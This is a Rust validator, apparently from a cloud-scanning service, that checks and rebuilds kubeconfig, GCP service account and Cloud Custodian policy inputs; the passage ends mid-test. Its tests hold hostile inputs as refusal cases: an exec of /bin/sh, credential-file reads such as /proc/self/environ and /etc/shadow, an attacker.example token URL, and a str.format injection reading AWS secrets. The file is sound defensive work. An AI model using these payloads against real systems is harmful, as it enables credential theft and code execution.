//! Files handed to third-party tools are input too. A kubeconfig can name a program for
//! the Kubernetes client to run (`exec`, `auth-provider`); a Google credential of any
//! type but a service account key can read a local file and post it to a URL of its
//! choosing; a Custodian policy can act on the account, deploy functions, or read a
//! file or URL. Any of them would run code beside the run's cloud credentials.
//!
//! A module hands such a file to a tool through the variable the tool reads it from, so
//! the variable decides the format: whatever a version sends to `KUBECONFIG`,
//! `GOOGLE_APPLICATION_CREDENTIALS` or `CUSTODIAN_POLICY` is checked here as data, at
//! submission and again when the worker restores the run, and the sandbox receives only
//! a copy rebuilt from the checked fields (as JSON, which the tools' YAML readers read
//! too). The drivers check that copy once more inside the sandbox.

use serde_json::{Map, Value, json};

/// The formats of tool inputs, each named by the variable its tool reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ToolInput {
    Kubeconfig,
    GcpServiceAccountKey,
    CustodianPolicy,
}

/// Why a tool input is refused. The messages name places in the file and the rule,
/// never a value: the input may be a secret.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum InputError {
    #[error("is not valid {format}{}", location(.line, .column))]
    Unreadable {
        format: &'static str,
        line: Option<usize>,
        column: Option<usize>,
    },
    #[error("{at} is not accepted: {rule}")]
    NotAccepted { at: String, rule: &'static str },
    #[error("{at} {expected}")]
    Invalid { at: String, expected: &'static str },
}

fn location(line: &Option<usize>, column: &Option<usize>) -> String {
    match (line, column) {
        (Some(line), Some(column)) => format!(" (line {line}, column {column})"),
        _ => String::new(),
    }
}

/// A tool input that passed its checks: the file the sandbox receives, and the
/// credentials inside it, which the run's log and artifacts are redacted of.
#[derive(Clone, PartialEq, Eq)]
pub struct CheckedInput {
    pub(crate) content: String,
    pub(crate) secrets: Vec<String>,
}

impl std::fmt::Debug for CheckedInput {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("CheckedInput").finish_non_exhaustive()
    }
}

/// The most policies one Custodian input may hold, and filters across them.
pub const MAX_POLICIES: usize = 100;
pub const MAX_FILTERS: usize = 2000;

const KUBECONFIG_RULE: &str = "a kubeconfig here is one cluster (server over https, certificate-authority-data, tls-server-name) and one user with a token, or client-certificate-data and client-key-data, and at most one context joining them";
const GCP_RULE: &str = "a GCP credential here is a service account key (type service_account) with its own fields only";
const POLICY_RULE: &str = "a policy here only reads: name, resource (aws.*), description, comments, tags, metadata, filters, and mode pull";
const FILTER_RULE: &str =
    "filters only compare what the scan read: no value_from or other *_from list, no url";
const GOOGLE_TOKEN_URI: &str = "https://oauth2.googleapis.com/token";

impl ToolInput {
    pub const ALL: [ToolInput; 3] = [
        Self::Kubeconfig,
        Self::GcpServiceAccountKey,
        Self::CustodianPolicy,
    ];

    /// The variable the tool reads the input from (a file's path, or the text itself).
    pub fn variable(self) -> &'static str {
        match self {
            Self::Kubeconfig => "KUBECONFIG",
            Self::GcpServiceAccountKey => "GOOGLE_APPLICATION_CREDENTIALS",
            Self::CustodianPolicy => "CUSTODIAN_POLICY",
        }
    }

    pub fn for_variable(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|input| input.variable() == name)
    }

    /// The accepted form, in words, for descriptions and refusals.
    pub fn rule(self) -> &'static str {
        match self {
            Self::Kubeconfig => KUBECONFIG_RULE,
            Self::GcpServiceAccountKey => GCP_RULE,
            Self::CustodianPolicy => POLICY_RULE,
        }
    }

    /// Checks `text` and rebuilds it from the checked fields alone.
    pub fn check(self, text: &str) -> Result<CheckedInput, InputError> {
        let document = read_yaml(text, self.format_name())?;
        match self {
            Self::Kubeconfig => kubeconfig(&document),
            Self::GcpServiceAccountKey => gcp_key(&document),
            Self::CustodianPolicy => custodian_policy(&document),
        }
    }

    fn format_name(self) -> &'static str {
        match self {
            Self::Kubeconfig => "kubeconfig YAML",
            Self::GcpServiceAccountKey => "JSON",
            Self::CustodianPolicy => "policy YAML",
        }
    }
}

/// YAML (and so JSON) into a JSON value. The parser bounds nesting and alias
/// expansion; its error is reduced to where it happened, since its text may quote the
/// input.
fn read_yaml(text: &str, format: &'static str) -> Result<Value, InputError> {
    serde_yaml_ng::from_str::<Value>(text).map_err(|error| {
        let at = error.location();
        InputError::Unreadable {
            format,
            line: at.as_ref().map(|l| l.line()),
            column: at.as_ref().map(|l| l.column()),
        }
    })
}

fn not_accepted(at: impl Into<String>, rule: &'static str) -> InputError {
    InputError::NotAccepted {
        at: at.into(),
        rule,
    }
}

fn invalid(at: impl Into<String>, expected: &'static str) -> InputError {
    InputError::Invalid {
        at: at.into(),
        expected,
    }
}

fn join(at: &str, key: &str) -> String {
    if at.is_empty() {
        key.to_owned()
    } else {
        format!("{at}.{key}")
    }
}

/// The object at `at`, refusing any key not in `allowed`.
fn object<'a>(
    value: &'a Value,
    at: &str,
    allowed: &[&str],
    rule: &'static str,
) -> Result<&'a Map<String, Value>, InputError> {
    let map = value
        .as_object()
        .ok_or_else(|| invalid(display(at), "must be a mapping"))?;
    match map.keys().find(|key| !allowed.contains(&key.as_str())) {
        Some(key) => Err(not_accepted(join(at, &shown_key(key)), rule)),
        None => Ok(map),
    }
}

fn display(at: &str) -> String {
    if at.is_empty() {
        "the document".to_owned()
    } else {
        at.to_owned()
    }
}

/// A key as a refusal names it: printable and short, since it comes from the input.
fn shown_key(key: &str) -> String {
    let printable = key.chars().all(|c| !c.is_control()) && key.chars().count() <= 64;
    if printable {
        key.to_owned()
    } else {
        "(a key that is not a plain name)".to_owned()
    }
}

fn text<'a>(
    map: &'a Map<String, Value>,
    at: &str,
    key: &str,
    ok: fn(&str) -> bool,
    expected: &'static str,
) -> Result<Option<&'a str>, InputError> {
    match map.get(key) {
        None => Ok(None),
        Some(Value::String(value)) if ok(value) => Ok(Some(value)),
        Some(_) => Err(invalid(join(at, key), expected)),
    }
}

fn required<'a>(
    map: &'a Map<String, Value>,
    at: &str,
    key: &str,
    ok: fn(&str) -> bool,
    expected: &'static str,
) -> Result<&'a str, InputError> {
    text(map, at, key, ok, expected)?.ok_or_else(|| invalid(join(at, key), "is required"))
}

/// The one entry of a list of named entries (`clusters`, `users`).
fn only_entry<'a>(
    top: &'a Map<String, Value>,
    key: &str,
    inner: &str,
) -> Result<(&'a str, &'a Value), InputError> {
    let entries = match top.get(key) {
        Some(Value::Array(entries)) => entries,
        _ => return Err(invalid(key, "must be a list of one entry")),
    };
    let [entry] = entries.as_slice() else {
        return Err(not_accepted(format!("{key}[1]"), KUBECONFIG_RULE));
    };
    let at = format!("{key}[0]");
    let map = object(entry, &at, &["name", inner], KUBECONFIG_RULE)?;
    let name = required(map, &at, "name", is_kube_name, NAME_EXPECTED)?;
    let body = map
        .get(inner)
        .ok_or_else(|| invalid(join(&at, inner), "is required"))?;
    Ok((name, body))
}

const NAME_EXPECTED: &str = "must be 1 to 253 of A-Z, a-z, 0-9 and . _ @ : / -";

fn is_kube_name(name: &str) -> bool {
    (1..=253).contains(&name.len())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._@:/-".contains(c))
}

fn kubeconfig(document: &Value) -> Result<CheckedInput, InputError> {
    let top = object(
        document,
        "",
        &[
            "apiVersion",
            "kind",
            "clusters",
            "users",
            "contexts",
            "current-context",
            "preferences",
        ],
        KUBECONFIG_RULE,
    )?;
    text(top, "", "apiVersion", |v| v == "v1", "must be v1")?;
    text(top, "", "kind", |v| v == "Config", "must be Config")?;
    if top
        .get("preferences")
        .is_some_and(|p| p.as_object().is_none_or(|p| !p.is_empty()))
    {
        return Err(not_accepted("preferences", KUBECONFIG_RULE));
    }
    let (cluster_name, cluster) = only_entry(top, "clusters", "cluster")?;
    let at = "clusters[0].cluster";
    let fields = object(
        cluster,
        at,
        &["server", "certificate-authority-data", "tls-server-name"],
        KUBECONFIG_RULE,
    )?;
    let server = required(
        fields,
        at,
        "server",
        is_https_url,
        "must be an https URL without credentials",
    )?;
    let ca = text(
        fields,
        at,
        "certificate-authority-data",
        is_base64,
        "must be base64",
    )?;
    let tls_name = text(
        fields,
        at,
        "tls-server-name",
        is_host_name,
        "must be a host name",
    )?;

    let (user_name, user) = only_entry(top, "users", "user")?;
    let at = "users[0].user";
    let fields = object(
        user,
        at,
        &["token", "client-certificate-data", "client-key-data"],
        KUBECONFIG_RULE,
    )?;
    let token = text(
        fields,
        at,
        "token",
        is_token,
        "must be 16 to 8192 printable characters without spaces",
    )?;
    let certificate = text(
        fields,
        at,
        "client-certificate-data",
        is_base64,
        "must be base64",
    )?;
    let key = text(fields, at, "client-key-data", is_base64, "must be base64")?;
    let mut user_fields = Map::new();
    let mut secrets = Vec::new();
    match (token, certificate, key) {
        (Some(token), None, None) => {
            user_fields.insert("token".into(), json!(token));
            secrets.push(token.to_owned());
        }
        (None, Some(certificate), Some(key)) => {
            user_fields.insert("client-certificate-data".into(), json!(certificate));
            user_fields.insert("client-key-data".into(), json!(key));
            secrets.push(key.to_owned());
        }
        _ => {
            return Err(invalid(
                at,
                "must hold a token, or client-certificate-data and client-key-data",
            ));
        }
    }

    let context_name = kube_context(top, cluster_name, user_name)?;
    let mut cluster_fields = Map::new();
    cluster_fields.insert("server".into(), json!(server));
    if let Some(ca) = ca {
        cluster_fields.insert("certificate-authority-data".into(), json!(ca));
    }
    if let Some(name) = tls_name {
        cluster_fields.insert("tls-server-name".into(), json!(name));
    }
    let rebuilt = json!({
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": cluster_name, "cluster": cluster_fields}],
        "users": [{"name": user_name, "user": user_fields}],
        "contexts": [{"name": context_name.0, "context": context_name.1}],
        "current-context": context_name.0,
    });
    Ok(CheckedInput {
        content: rebuilt.to_string(),
        secrets,
    })
}

/// The context joining the cluster and the user: the one given (its namespace kept),
/// or one named after the cluster.
fn kube_context<'a>(
    top: &'a Map<String, Value>,
    cluster: &'a str,
    user: &'a str,
) -> Result<(&'a str, Value), InputError> {
    let contexts = match top.get("contexts") {
        None => &[][..],
        Some(Value::Array(entries)) => entries.as_slice(),
        Some(_) => return Err(invalid("contexts", "must be a list")),
    };
    let (name, namespace) = match contexts {
        [] => (cluster, None),
        [entry] => {
            let at = "contexts[0]";
            let map = object(entry, at, &["name", "context"], KUBECONFIG_RULE)?;
            let name = required(map, at, "name", is_kube_name, NAME_EXPECTED)?;
            let context = map
                .get("context")
                .ok_or_else(|| invalid("contexts[0].context", "is required"))?;
            let at = "contexts[0].context";
            let fields = object(
                context,
                at,
                &["cluster", "user", "namespace"],
                KUBECONFIG_RULE,
            )?;
            text(fields, at, "cluster", |_| true, "must name the one cluster")?
                .filter(|named| *named == cluster)
                .ok_or_else(|| invalid(join(at, "cluster"), "must name the one cluster"))?;
            text(fields, at, "user", |_| true, "must name the one user")?
                .filter(|named| *named == user)
                .ok_or_else(|| invalid(join(at, "user"), "must name the one user"))?;
            let namespace = text(
                fields,
                at,
                "namespace",
                is_dns_label,
                "must be a namespace name",
            )?;
            (name, namespace)
        }
        _ => return Err(not_accepted("contexts[1]", KUBECONFIG_RULE)),
    };
    text(
        top,
        "",
        "current-context",
        |_| true,
        "must name the one context",
    )?
    .map_or(Ok(()), |current| {
        if current == name {
            Ok(())
        } else {
            Err(invalid("current-context", "must name the one context"))
        }
    })?;
    let mut context = json!({"cluster": cluster, "user": user});
    if let Some(namespace) = namespace {
        context["namespace"] = json!(namespace);
    }
    Ok((name, context))
}

fn is_https_url(url: &str) -> bool {
    let Some(rest) = url.strip_prefix("https://") else {
        return false;
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    url.len() <= 2048
        && !authority.is_empty()
        && authority
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".-:[]".contains(c))
        && rest
            .chars()
            .all(|c| c.is_ascii_graphic() && c != '\\' && c != '@')
}

fn is_host_name(name: &str) -> bool {
    (1..=253).contains(&name.len())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".-".contains(c))
}

fn is_dns_label(name: &str) -> bool {
    (1..=63).contains(&name.len())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
}

fn is_base64(data: &str) -> bool {
    use base64::Engine;
    let compact: String = data.split_ascii_whitespace().collect();
    !compact.is_empty()
        && base64::engine::general_purpose::STANDARD
            .decode(compact.as_bytes())
            .is_ok()
}

/// A bearer token: long enough that masking it cannot mask common text.
fn is_token(token: &str) -> bool {
    (16..=8192).contains(&token.len()) && token.chars().all(|c| c.is_ascii_graphic())
}

fn gcp_key(document: &Value) -> Result<CheckedInput, InputError> {
    let key = object(
        document,
        "",
        &[
            "type",
            "project_id",
            "private_key_id",
            "private_key",
            "client_email",
            "client_id",
            "auth_uri",
            "token_uri",
            "auth_provider_x509_cert_url",
            "client_x509_cert_url",
            "universe_domain",
        ],
        GCP_RULE,
    )?;
    if key.get("type").and_then(Value::as_str) != Some("service_account") {
        return Err(not_accepted(
            "type",
            "only a service account key (type service_account) is a credential here: other types (external_account, authorized_user, impersonated_service_account) can read files and call URLs",
        ));
    }
    let private_key = required(
        key,
        "",
        "private_key",
        is_pem_private_key,
        "must be a PEM private key (-----BEGIN PRIVATE KEY-----)",
    )?;
    let email = required(
        key,
        "",
        "client_email",
        is_service_account_email,
        "must be a service account's email (…@….gserviceaccount.com)",
    )?;
    let project = text(
        key,
        "",
        "project_id",
        is_project_id,
        "must be a GCP project id",
    )?;
    let key_id = text(
        key,
        "",
        "private_key_id",
        |id| (1..=64).contains(&id.len()) && id.chars().all(|c| c.is_ascii_hexdigit()),
        "must be hexadecimal",
    )?;
    let client_id = text(
        key,
        "",
        "client_id",
        |id| (1..=32).contains(&id.len()) && id.chars().all(|c| c.is_ascii_digit()),
        "must be digits",
    )?;
    // Google's own endpoints only: a key's token_uri is where the signed grant goes.
    for (field, expected) in [
        ("token_uri", GOOGLE_TOKEN_URI),
        ("auth_uri", "https://accounts.google.com/o/oauth2/auth"),
        (
            "auth_provider_x509_cert_url",
            "https://www.googleapis.com/oauth2/v1/certs",
        ),
        ("universe_domain", "googleapis.com"),
    ] {
        if key.get(field).is_some_and(|v| v.as_str() != Some(expected)) {
            return Err(not_accepted(field, "must be Google's own endpoint"));
        }
    }
    let cert_url_ok = |url: &str| {
        url.strip_prefix("https://www.googleapis.com/robot/v1/metadata/x509/")
            .is_some_and(|rest| {
                rest.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "%@.-_".contains(c))
            })
    };
    text(
        key,
        "",
        "client_x509_cert_url",
        cert_url_ok,
        "must be Google's own endpoint",
    )?;
    let mut rebuilt = json!({
        "type": "service_account",
        "private_key": private_key,
        "client_email": email,
        "token_uri": GOOGLE_TOKEN_URI,
    });
    for (field, value) in [
        ("project_id", project),
        ("private_key_id", key_id),
        ("client_id", client_id),
    ] {
        if let Some(value) = value {
            rebuilt[field] = json!(value);
        }
    }
    Ok(CheckedInput {
        content: rebuilt.to_string(),
        secrets: vec![private_key.to_owned()],
    })
}

fn is_pem_private_key(pem: &str) -> bool {
    let body = pem
        .trim()
        .strip_prefix("-----BEGIN PRIVATE KEY-----")
        .and_then(|rest| rest.strip_suffix("-----END PRIVATE KEY-----"));
    body.is_some_and(is_base64)
}

fn is_service_account_email(email: &str) -> bool {
    let Some((account, domain)) = email.split_once('@') else {
        return false;
    };
    email.len() <= 254
        && !account.is_empty()
        && account
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        && domain.ends_with(".gserviceaccount.com")
        && domain
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || ".-".contains(c))
}

/// GCP project ids: 6 to 30 of a-z, 0-9 and '-', starting with a letter; older ones may
/// carry a domain (`example.com:project`).
fn is_project_id(id: &str) -> bool {
    let name = id.rsplit(':').next().unwrap_or_default();
    id.len() <= 100
        && (6..=30).contains(&name.len())
        && name.starts_with(|c: char| c.is_ascii_lowercase())
        && id
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || ".-:".contains(c))
}

const POLICY_KEYS: &[&str] = &[
    "name",
    "resource",
    "description",
    "comment",
    "comments",
    "tags",
    "metadata",
    "filters",
    "mode",
];

fn custodian_policy(document: &Value) -> Result<CheckedInput, InputError> {
    let top = object(document, "", &["policies"], POLICY_RULE)?;
    no_format_reach(document, "")?;
    let policies = match top.get("policies") {
        Some(Value::Array(policies)) if !policies.is_empty() => policies,
        _ => return Err(invalid("policies", "must be a list of at least one policy")),
    };
    if policies.len() > MAX_POLICIES {
        return Err(invalid("policies", "must hold at most 100 policies"));
    }
    let mut filters = 0;
    for (i, policy) in policies.iter().enumerate() {
        let at = format!("policies[{i}]");
        let map = object(policy, &at, POLICY_KEYS, POLICY_RULE)?;
        required(
            map,
            &at,
            "name",
            is_policy_name,
            "must be 1 to 128 of a-z, A-Z, 0-9, '-' and '_', starting with a letter",
        )?;
        required(
            map,
            &at,
            "resource",
            is_aws_resource,
            "must be an AWS resource type (aws.s3, aws.ec2, …)",
        )?;
        if let Some(mode) = map.get("mode") {
            let mode_at = join(&at, "mode");
            let fields = object(mode, &mode_at, &["type"], POLICY_RULE)?;
            if fields.get("type").and_then(Value::as_str) != Some("pull") {
                return Err(not_accepted(
                    join(&mode_at, "type"),
                    "only mode pull runs here: the other modes deploy functions or rules into the account",
                ));
            }
        }
        for key in ["description", "comment", "comments"] {
            text(map, &at, key, |_| true, "must be text")?;
        }
        if let Some(tags) = map.get("tags")
            && !tags
                .as_array()
                .is_some_and(|tags| tags.iter().all(Value::is_string))
        {
            return Err(invalid(join(&at, "tags"), "must be a list of text"));
        }
        if let Some(metadata) = map.get("metadata") {
            plain_data(metadata, &join(&at, "metadata"))?;
        }
        match map.get("filters") {
            None => {}
            Some(Value::Array(list)) => {
                for (j, filter) in list.iter().enumerate() {
                    filters += check_filter(filter, &format!("{at}.filters[{j}]"))?;
                }
            }
            Some(_) => return Err(invalid(join(&at, "filters"), "must be a list")),
        }
        if filters > MAX_FILTERS {
            return Err(invalid("policies", "must hold at most 2000 filters in all"));
        }
    }
    Ok(CheckedInput {
        content: document.to_string(),
        secrets: Vec::new(),
    })
}

const FORMAT_RULE: &str = "a {…} field may only name a value (account_id, region, now:%Y-%m-%d, a regex count): Custodian fills fields with Python's str.format, where '.', '[' or '!' reach into objects and the environment";

/// Custodian expands `{…}` fields in every string of a policy with Python's
/// `str.format` against objects of its own, so `{now.__init__.__globals__[os]…}`
/// reads the environment, the run's credentials among it. A field may name a variable
/// or be a regular expression's count (`{3}`, `{1,3}`), nothing that reaches further.
fn no_format_reach(value: &Value, at: &str) -> Result<(), InputError> {
    let reaches = |text: &str| {
        text.split('{').skip(1).any(|field| {
            field
                .split('}')
                .next()
                .is_some_and(|f| f.contains(['.', '[', ']', '!']))
        })
    };
    match value {
        Value::String(text) if reaches(text) => Err(not_accepted(display(at), FORMAT_RULE)),
        Value::Object(map) => map.iter().try_for_each(|(key, inner)| {
            let inner_at = join(at, &shown_key(key));
            if reaches(key) {
                Err(not_accepted(inner_at, FORMAT_RULE))
            } else {
                no_format_reach(inner, &inner_at)
            }
        }),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .try_for_each(|(i, item)| no_format_reach(item, &format!("{at}[{i}]"))),
        _ => Ok(()),
    }
}

fn is_policy_name(name: &str) -> bool {
    (1..=128).contains(&name.len())
        && name.starts_with(|c: char| c.is_ascii_alphabetic())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_".contains(c))
}

fn is_aws_resource(resource: &str) -> bool {
    resource.strip_prefix("aws.").is_some_and(|kind| {
        (1..=64).contains(&kind.len())
            && kind
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-_.".contains(c))
    })
}

/// A filter and everything inside it: how many filters it counts as.
fn check_filter(filter: &Value, at: &str) -> Result<usize, InputError> {
    match filter {
        Value::Object(map) => {
            let mut count = 1;
            for (key, value) in map {
                let inner = join(at, &shown_key(key));
                if key == "url" || key.ends_with("_from") || key == "actions" {
                    return Err(not_accepted(inner, FILTER_RULE));
                }
                count += match value {
                    Value::Array(items) if matches!(key.as_str(), "or" | "and" | "not") => items
                        .iter()
                        .enumerate()
                        .map(|(k, item)| check_filter(item, &format!("{inner}[{k}]")))
                        .sum::<Result<usize, _>>()?,
                    other => {
                        plain_data(other, &inner)?;
                        0
                    }
                };
            }
            Ok(count)
        }
        Value::String(_) => Ok(1),
        _ => Err(invalid(at, "must be a mapping")),
    }
}

/// Data that names nothing to fetch: no `url` and no `*_from` key at any depth.
fn plain_data(value: &Value, at: &str) -> Result<(), InputError> {
    match value {
        Value::Object(map) => map.iter().try_for_each(|(key, inner)| {
            let inner_at = join(at, &shown_key(key));
            if key == "url" || key.ends_with("_from") {
                Err(not_accepted(inner_at, FILTER_RULE))
            } else {
                plain_data(inner, &inner_at)
            }
        }),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .try_for_each(|(i, item)| plain_data(item, &format!("{at}[{i}]"))),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CA: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM=";

    fn kube(user: &str) -> String {
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: prod\n  cluster:\n    server: https://10.0.0.1:6443\n    certificate-authority-data: {CA}\nusers:\n- name: scanner\n  user:\n{user}\ncontexts:\n- name: prod\n  context:\n    cluster: prod\n    user: scanner\n    namespace: default\ncurrent-context: prod\n"
        )
    }

    fn refusal(input: ToolInput, text: &str) -> String {
        input
            .check(text)
            .map(|_| "accepted".to_owned())
            .unwrap_or_else(|error| error.to_string())
    }

    #[test]
    fn a_kubeconfig_of_one_cluster_and_a_token_is_rebuilt_from_its_fields() {
        let checked = ToolInput::Kubeconfig
            .check(&kube("    token: eyJhbGciOi.secret-token"))
            .unwrap();
        let rebuilt: Value = serde_json::from_str(&checked.content).unwrap();
        assert_eq!(
            rebuilt["users"][0]["user"],
            json!({"token": "eyJhbGciOi.secret-token"})
        );
        assert_eq!(
            rebuilt["clusters"][0]["cluster"]["server"],
            "https://10.0.0.1:6443"
        );
        assert_eq!(rebuilt["contexts"][0]["context"]["namespace"], "default");
        assert_eq!(rebuilt["current-context"], "prod");
        assert_eq!(checked.secrets, ["eyJhbGciOi.secret-token"]);
        let certificate = ToolInput::Kubeconfig
            .check(&kube(&format!(
                "    client-certificate-data: {CA}\n    client-key-data: {CA}"
            )))
            .unwrap();
        assert_eq!(certificate.secrets, [CA]);
    }

    #[test]
    fn a_kubeconfig_that_runs_or_reads_anything_is_refused_naming_where() {
        for (user, at) in [
            (
                "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, id]",
                "users[0].user.exec",
            ),
            (
                "    auth-provider:\n      name: gcp\n      config:\n        cmd-path: /bin/sh",
                "users[0].user.auth-provider",
            ),
            (
                "    tokenFile: /proc/self/environ",
                "users[0].user.tokenFile",
            ),
            (
                "    client-certificate: /etc/passwd\n    client-key: /etc/shadow",
                "users[0].user.client-certificate",
            ),
            ("    username: a\n    password: b", "users[0].user.password"),
        ] {
            let why = refusal(ToolInput::Kubeconfig, &kube(user));
            assert!(why.starts_with(&format!("{at} is not accepted")), "{why}");
        }
        let proxy = kube("    token: kube-token-0123456789").replace(
            "    server: https://10.0.0.1:6443",
            "    server: https://10.0.0.1:6443\n    proxy-url: socks5://evil:1080",
        );
        assert!(
            refusal(ToolInput::Kubeconfig, &proxy).starts_with("clusters[0].cluster.proxy-url")
        );
        let plain =
            kube("    token: kube-token-0123456789").replace("https://10.0.0.1", "http://10.0.0.1");
        assert!(refusal(ToolInput::Kubeconfig, &plain).contains("must be an https URL"));
        let two = kube("    token: kube-token-0123456789").replace(
            "contexts:\n",
            "contexts:\n- name: other\n  context: {cluster: prod, user: scanner}\n",
        );
        assert!(refusal(ToolInput::Kubeconfig, &two).starts_with("contexts[1] is not accepted"));
        let elsewhere = kube("    token: kube-token-0123456789")
            .replace("    cluster: prod\n    user", "    cluster: x\n    user");
        assert!(refusal(ToolInput::Kubeconfig, &elsewhere).contains("must name the one cluster"));
        let extension = format!(
            "{}extensions: []\n",
            kube("    token: kube-token-0123456789")
        );
        assert!(
            refusal(ToolInput::Kubeconfig, &extension).starts_with("extensions is not accepted")
        );
    }

    #[test]
    fn unreadable_input_is_refused_without_quoting_it() {
        let why = refusal(ToolInput::Kubeconfig, "clusters: [\n  secret-value-123: {");
        assert!(why.starts_with("is not valid kubeconfig YAML"), "{why}");
        assert!(!why.contains("secret-value-123"), "{why}");
        // Aliases cannot multiply a small document into a large one.
        let mut bomb = String::from("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for level in 1..12 {
            let previous = level - 1;
            let name = (b'a' + level) as char;
            let prev = (b'a' + previous) as char;
            bomb.push_str(&format!(
                "{name}: &{name} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]\n"
            ));
        }
        assert!(ToolInput::CustodianPolicy.check(&bomb).is_err());
    }

    fn gcp(fields: Value) -> String {
        let mut key = json!({
            "type": "service_account",
            "project_id": "sage-scan-1",
            "private_key_id": "0123abcd",
            "private_key": "-----BEGIN PRIVATE KEY-----\nTUlJRXZRSUJBREFOQmdrcWhraUc5dzBCQVFFRkFBU0NCS2N3Z2dTakFnRUFBb0lCQVFD\n-----END PRIVATE KEY-----\n",
            "client_email": "scanner@sage-scan-1.iam.gserviceaccount.com",
            "client_id": "1234567890",
            "token_uri": "https://oauth2.googleapis.com/token",
        });
        for (field, value) in fields.as_object().unwrap() {
            key[field] = value.clone();
        }
        key.to_string()
    }

    #[test]
    fn a_gcp_credential_is_a_service_account_key_and_nothing_else() {
        let checked = ToolInput::GcpServiceAccountKey
            .check(&gcp(json!({})))
            .unwrap();
        let rebuilt: Value = serde_json::from_str(&checked.content).unwrap();
        assert_eq!(rebuilt["token_uri"], GOOGLE_TOKEN_URI);
        assert_eq!(checked.secrets.len(), 1);
        let external = json!({
            "type": "external_account",
            "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
            "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
            "token_url": "https://attacker.example/token",
            "credential_source": {"file": "/proc/self/environ"},
        });
        // Keys are read in order: the first foreign one is named.
        assert!(
            refusal(ToolInput::GcpServiceAccountKey, &external.to_string())
                .starts_with("audience is not accepted")
        );
        for (fields, expected) in [
            (json!({"type": "external_account"}), "type is not accepted"),
            (json!({"type": "authorized_user"}), "type is not accepted"),
            (
                json!({"token_uri": "https://attacker.example/token"}),
                "token_uri is not accepted",
            ),
            (
                json!({"credential_source": {"file": "/proc/self/environ"}}),
                "credential_source is not accepted",
            ),
            (
                json!({"private_key": "not a key"}),
                "private_key must be a PEM",
            ),
            (
                json!({"client_email": "someone@example.com"}),
                "client_email must be a service account",
            ),
        ] {
            let why = refusal(ToolInput::GcpServiceAccountKey, &gcp(fields.clone()));
            assert!(why.starts_with(expected), "{fields}: {why}");
        }
    }

    const READ_ONLY: &str = "policies:\n- name: s3-unencrypted\n  resource: aws.s3\n  mode: {type: pull}\n  filters:\n  - type: bucket-encryption\n    state: false\n  - or:\n    - \"tag:owner\": absent\n    - {type: value, key: Name, op: regex, value: '^prod-'}\n";

    #[test]
    fn a_read_only_policy_passes_as_written() {
        let checked = ToolInput::CustodianPolicy.check(READ_ONLY).unwrap();
        let rebuilt: Value = serde_json::from_str(&checked.content).unwrap();
        assert_eq!(
            rebuilt["policies"][0]["filters"][1]["or"][1]["value"],
            "^prod-"
        );
    }

    #[test]
    fn a_policy_that_acts_deploys_or_fetches_is_refused_naming_where() {
        for (policy, expected) in [
            (
                "policies:\n- name: p\n  resource: aws.ec2\n  actions: [terminate]\n",
                "policies[0].actions is not accepted",
            ),
            (
                "policies:\n- name: p\n  resource: aws.ec2\n  mode: {type: periodic, schedule: 'rate(1 day)'}\n",
                "policies[0].mode.schedule is not accepted",
            ),
            (
                "policies:\n- name: p\n  resource: aws.ec2\n  mode: {type: cloudtrail}\n",
                "policies[0].mode.type is not accepted",
            ),
            (
                "policies:\n- name: p\n  resource: aws.s3\n  filters:\n  - type: value\n    key: Name\n    op: in\n    value_from: {url: 'file:///proc/self/environ'}\n",
                "policies[0].filters[0].value_from is not accepted",
            ),
            (
                "policies:\n- name: p\n  resource: aws.s3\n  filters:\n  - not:\n    - type: cross-account\n      whitelist_from: {url: 'https://x/y'}\n",
                "policies[0].filters[0].not[0].whitelist_from is not accepted",
            ),
            (
                "policies:\n- name: p\n  resource: gcp.instance\n",
                "policies[0].resource must be an AWS resource type",
            ),
            (
                "vars:\n  x: 1\npolicies:\n- name: p\n  resource: aws.s3\n",
                "vars is not accepted",
            ),
            (
                "policies:\n- name: p\n  resource: aws.s3\n  source: inventory\n",
                "policies[0].source is not accepted",
            ),
        ] {
            let why = refusal(ToolInput::CustodianPolicy, policy);
            assert!(why.starts_with(expected), "{policy}: {why}");
        }
        // Custodian's variable expansion is Python's str.format: a field that reaches
        // into an object reads the environment (the review's way to the credentials).
        for (text, at) in [
            (
                "policies:\n- name: p\n  resource: aws.s3\n  description: '{now.__init__.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}'\n",
                "policies[0].description",
            ),
            (
                "policies:\n- name: p\n  resource: aws.s3\n  filters:\n  - {type: value, key: Name, value: '{now:{x.y}}'}\n",
                "policies[0].filters[0].value",
            ),
            (
                "policies:\n- name: p\n  resource: aws.s3\n  tags: ['{account_id!r}']\n",
                "policies[0].tags[0]",
            ),
        ] {
            let why = refusal(ToolInput::CustodianPolicy, text);
            assert!(why.starts_with(&format!("{at} is not accepted")), "{why}");
        }
        for fine in [
            "'^prod-[a-z]{3}$'",
